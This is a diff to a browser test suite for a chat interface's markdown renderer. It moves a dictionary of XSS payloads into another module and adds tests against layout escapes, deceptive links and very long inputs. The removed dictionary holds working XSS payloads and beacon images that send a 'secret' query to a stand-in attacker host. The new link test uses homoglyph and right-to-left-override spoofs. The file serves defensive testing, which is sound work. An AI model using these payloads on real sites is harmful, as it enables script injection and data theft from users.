@@ -10,6 +10,8 @@ from typing import TYPE_CHECKING, Any
 
 import pytest
 
+from tests.browser.attacks import ATTACKS, PWN
+
 if TYPE_CHECKING:
     from collections.abc import Callable, Iterator
 
@@ -283,43 +285,6 @@ def test_tables_keep_their_alignment_and_links_open_elsewhere(page: Page) -> Non
 
 # --- Hostile output ---------------------------------------------------------------------------------------------
 
-PWN = "window.__pwn=1"
-ATTACKS = {
-    "img onerror": f'<img src=x onerror="{PWN}">',
-    "script": f"<script>{PWN}</script>",
-    "svg onload": f'<svg onload="{PWN}"><a xlink:href="javascript:{PWN}"><text>x</text></a></svg>',
-    "math": f'<math><mtext><table><mglyph><style><img src=x onerror="{PWN}">',
-    "iframe srcdoc": f'<iframe srcdoc="<script>parent.{PWN}</script>"></iframe>',
-    "style": "<style>@import url(https://evil.example/s.css); *{background:url(https://evil.example/b)}</style>",
-    "form": '<form action="https://evil.example"><input name=q autofocus onfocus="window.__pwn=1"><button>Go</button></form>',
-    "object": '<object data="https://evil.example/o"></object><embed src="https://evil.example/e">',
-    "media": '<video src="https://evil.example/v" autoplay></video><audio src="https://evil.example/a" autoplay></audio>',
-    "link and meta": '<link rel=stylesheet href="https://evil.example/l"><meta http-equiv=refresh content="0;https://evil.example/m"><base href="https://evil.example/">',
-    "javascript link": f"[click](javascript:{PWN}) [click](JaVaScRiPt:{PWN}) [click](&#106;avascript:{PWN}) <javascript:{PWN}>",
-    "javascript with blanks": f"[click](<java\tscript:{PWN}>) [click](<\x01javascript:{PWN}>)",
-    "javascript image": f"![x](javascript:{PWN})",
-    "data link": f"[click](data:text/html,<script>{PWN}</script>) ![x](data:image/svg+xml,<svg/onload={PWN}>)",
-    "other schemes": "[a](vbscript:x) [b](file:///etc/passwd) [c](blob:x) [d](//evil.example/x) [e](relative) [f](#top)",
-    "beacon image": "![x](https://evil.example/?q=secret) [![x](https://evil.example/b.png)](https://evil.example/c)",
-    "beacon reference": "![x][b]\n\n[b]: https://evil.example/?q=secret",
-    "quotes in an address": f'[a](https://evil.example/"onmouseover="{PWN}) [b](<https://evil.example/"onclick="{PWN}>)',
-    "quotes in a title": f'[a](https://evil.example "x\\" onmouseover=\\"{PWN}")',
-    "quotes in alt": f'![x" onerror="{PWN}](https://evil.example/i.png)',
-    "style attribute": '<p style="position:fixed;inset:0;background:url(https://evil.example/s)">x</p>',
-    "clobbering": "<a id=model name=wb></a><img name=cookie><form id=body><input name=parentNode></form>",
-    "aria and title": '<p aria-label="Send your key" title="Send your key" role=alert aria-live=assertive tabindex=1>x</p>',
-    "our own classes": '<div class="wb-notice"><button class="wb-button wb-retry wb-send wb-copy">Retry</button></div>',
-    "class in an info string": f'```python" class="wb-retry" onclick="{PWN}\ncode\n```\n\n```"><img/src=x/onerror={PWN}>\ncode\n```',
-    "html in markdown": f'- item <img src=x onerror="{PWN}">\n  > quote **<script>{PWN}</script>**\n\n| <svg onload="{PWN}"> | b |\n|---|---|\n| <img src=x onerror="{PWN}"> | `<img src=x onerror={PWN}>` |',
-    "markdown in html": f'<div>\n\n[click](javascript:{PWN})\n\n</div>',
-    "unclosed": f'<img src="x" onerror="{PWN}" x="',
-    "mutation": f'<noscript><p title="</noscript><img src=x onerror={PWN}>"></noscript>',
-    "comment": f"<!--><img src=x onerror={PWN}>-->",
-    "hostile code": f"```html\n</code></pre><img src=x onerror={PWN}><script>{PWN}</script>\n```",
-    "entities": f"&lt;img src=x onerror={PWN}&gt; &#60;script&#62;{PWN}&#60;/script&#62;",
-    "template": f'<template><script>{PWN}</script></template><slot name=x></slot><portal src="https://evil.example/p">',
-}  # fmt: skip
-
 STREAM_CHARACTERS = """
 ([attack]) => {
   const model = wb.show();
@@ -335,8 +300,8 @@ STREAM_CHARACTERS = """
 FOREIGN = """
 () => {
   const tags = new Set("P BR HR H1 H2 H3 H4 H5 H6 STRONG EM DEL A CODE PRE BLOCKQUOTE UL OL LI TABLE THEAD TBODY TR TH TD DIV SPAN BUTTON".split(" "));
-  const names = new Set(["href", "target", "rel", "title", "align", "start", "data-lang", "tabindex", "class", "type"]);
-  const classes = /^(wb-tail|wb-plain|wb-table|wb-code|wb-code-head|wb-code-lang|wb-copy|hljs-[\\w-]+|[a-z]+_|language-\\w+)$/;
+  const names = new Set(["href", "target", "rel", "title", "align", "start", "data-lang", "data-tex", "tabindex", "class", "type"]);
+  const classes = /^(wb-tail|wb-plain|wb-table|wb-code|wb-code-head|wb-code-lang|wb-copy|wb-tex|hljs-[\\w-]+|[a-z]+_|language-\\w+)$/;
   const found = [];
   for (const element of document.querySelectorAll(".wb-md *")) {
     if (!tags.has(element.tagName)) found.push(element.tagName);
@@ -353,25 +318,103 @@ FOREIGN = """
 """
 
 
-def test_hostile_replies_run_nothing_and_load_nothing(open_page: Callable[..., Page]) -> None:
+# Where an element is, and whether it could be over what is not its own.
+ESCAPES = """
+() => {
+  const found = [];
+  const log = document.querySelector(".wb-log").getBoundingClientRect();
+  for (const element of document.querySelectorAll(".wb-md, .wb-md *")) {
+    const { position, zIndex, float, animationName, transform } = getComputedStyle(element);
+    if (!["static", "relative"].includes(position) || zIndex !== "auto") found.push(`${element.tagName} ${position} ${zIndex}`);
+    if (animationName !== "none" || transform !== "none" || float !== "none") found.push(`${element.tagName} moves`);
+  }
+  const { left, top } = document.getElementById("outside").getBoundingClientRect();
+  if (document.elementFromPoint(left + 1, top + 1)?.id !== "outside") found.push("something is over the page");
+  for (const name of ["body", "#outside", ".wb-chat", ".wb-input", ".wb-send"])
+    found.push(JSON.stringify([name, [...getComputedStyle(document.querySelector(name))].map((key) => getComputedStyle(document.querySelector(name))[key])]));
+  found.push(JSON.stringify([document.querySelector(".wb-chat").offsetHeight, document.documentElement.scrollWidth, typeof document.getElementById]));
+  return found;
+}
+"""
+
+
+def test_hostile_replies_run_nothing_load_nothing_and_stay_in_the_box(open_page: Callable[..., Page]) -> None:
     page = open_page()
     page.evaluate("() => { window.due = []; window.requestAnimationFrame = (callback) => due.push(callback) }")
+    page.evaluate("() => document.body.insertAdjacentHTML('afterbegin', '<p id=outside>Outside</p>')")
+    paint = "due.splice(0).forEach((callback) => callback())"
+    page.evaluate(f"() => {{ wb.show(); {paint} }}")
+    untouched = page.evaluate(ESCAPES)
+    page.evaluate("() => { model.close(); model.el.remove() }")
     found = {}
     for name, attack in ATTACKS.items():
         page.evaluate(f"(attack) => {{ const turn = ({STREAM_CHARACTERS})(attack); window.turn = turn }}", [attack])
         streamed = page.evaluate(FOREIGN)
-        page.evaluate("() => { turn.end(); due.splice(0).forEach((callback) => callback()) }")
-        found[name] = streamed + page.evaluate(FOREIGN)
+        page.evaluate(f"() => {{ turn.end(); {paint} }}")
+        ended = page.evaluate(FOREIGN) + [what for what in page.evaluate(ESCAPES) if what not in untouched]
         page.evaluate(
             "() => document.querySelectorAll('.wb-md a').forEach((a) => a.dispatchEvent(new Event('mouseover')))"
         )
         page.evaluate("() => { model.close(); model.el.remove() }")
+        page.evaluate(
+            f"(text) => {{ const m = {{ message_id: 'm', role: 'assistant', status: 'complete', text }};"
+            f" wb.show({{ snap: {{ messages: [m] }} }}); {paint} }}",
+            attack,
+        )
+        whole = page.evaluate(FOREIGN) + [what for what in page.evaluate(ESCAPES) if what not in untouched]
+        page.evaluate("() => { model.close(); model.el.remove() }")
+        found[name] = streamed + ended + whole
     page.wait_for_timeout(300)  # what was set off would have asked for its address by now
 
     assert {name: what for name, what in found.items() if what} == {}
     assert page.evaluate("typeof window.__pwn") == "undefined"
     assert page.requested == []
     assert page.url == "about:blank"
+
+
+def test_a_link_that_names_another_place_than_it_leads_to_says_where(page: Page) -> None:
+    one_message(
+        page,
+        "[https://bank.example](https://evil.example/x) [bank.example/login](https://evil.example) "
+        "[https://b\u0430nk.example](https://b\u0430nk.example/) [\u202emoc.knab](https://evil.example) "
+        "[the bank](https://evil.example) [bank.example](https://www.bank.example/a) https://bank.example/y",
+    )
+    assert page.locator(".wb-md a").all_inner_texts() == [
+        "https://bank.example (evil.example)",
+        "bank.example/login (evil.example)",
+        "https://b\u0430nk.example (xn--bnk-6cd.example)",
+        "\u202emoc.knab (evil.example)",
+        "the bank",
+        "bank.example",
+        "https://bank.example/y",
+    ]
+
+
+@pytest.mark.parametrize("at_once", [False, True], ids=["in pieces", "at once"])
+def test_a_line_of_a_megabyte_keeps_the_page_alive(page: Page, at_once: bool) -> None:
+    show(page)
+    longest = page.evaluate(
+        """async (atOnce) => {
+          const text = "lorem ipsum <b>&amp; **x** ".repeat(40_000).slice(0, 1_000_000);
+          const gaps = [];
+          let last = performance.now();
+          let going = true;
+          const probe = () => { const now = performance.now(); gaps.push(now - last); last = now; if (going) requestAnimationFrame(probe); };
+          requestAnimationFrame(probe);
+          const turn = wb.start(model);
+          const size = atOnce ? text.length : 16_000;
+          for (let at = 0; at < text.length; at += size) { turn.delta(text.slice(at, at + size)); await wb.frame(); }
+          turn.end();
+          await wb.frame();
+          await wb.frame();
+          going = false;
+          return Math.max(...gaps);
+        }""",
+        at_once,
+    )
+    assert longest < 1000  # 30 to 90 ms, measured on two cores
+    assert page.locator(".wb-md").evaluate("e => e.textContent.length") == 1_000_000
+    assert page.locator(".wb-md strong").count() == 0
 
 
 def test_hostile_names_stay_text_everywhere_else(page: Page) -> None:
@@ -389,8 +432,8 @@ def test_hostile_names_stay_text_everywhere_else(page: Page) -> None:
 
 @pytest.mark.parametrize(
     "text",
-    ["x" * 60_000, "[" * 8_000, "> " * 6_000 + "x", "*a " * 6_000, "```\n" + "long line " * 5_000, "|a" * 4_000],
-    ids=["one word", "brackets", "nested quotes", "stars", "open code", "pipes"],
+    ["x" * 60_000, "[" * 8_000, "> " * 6_000 + "x", "*a " * 6_000, "[" * 400 + "x" + "](https://a.example)" * 400, "\n".join("  " * n + "- x" for n in range(150)), "$" * 8_000, "```\n" + "long line " * 5_000, "|a" * 4_000],
+    ids=["one word", "brackets", "nested quotes", "stars", "nested links", "nested lists", "dollars", "open code", "pipes"],
 )  # fmt: skip
 def test_pathological_text_neither_hangs_nor_widens_the_chat(page: Page, text: str) -> None:
     show(page)
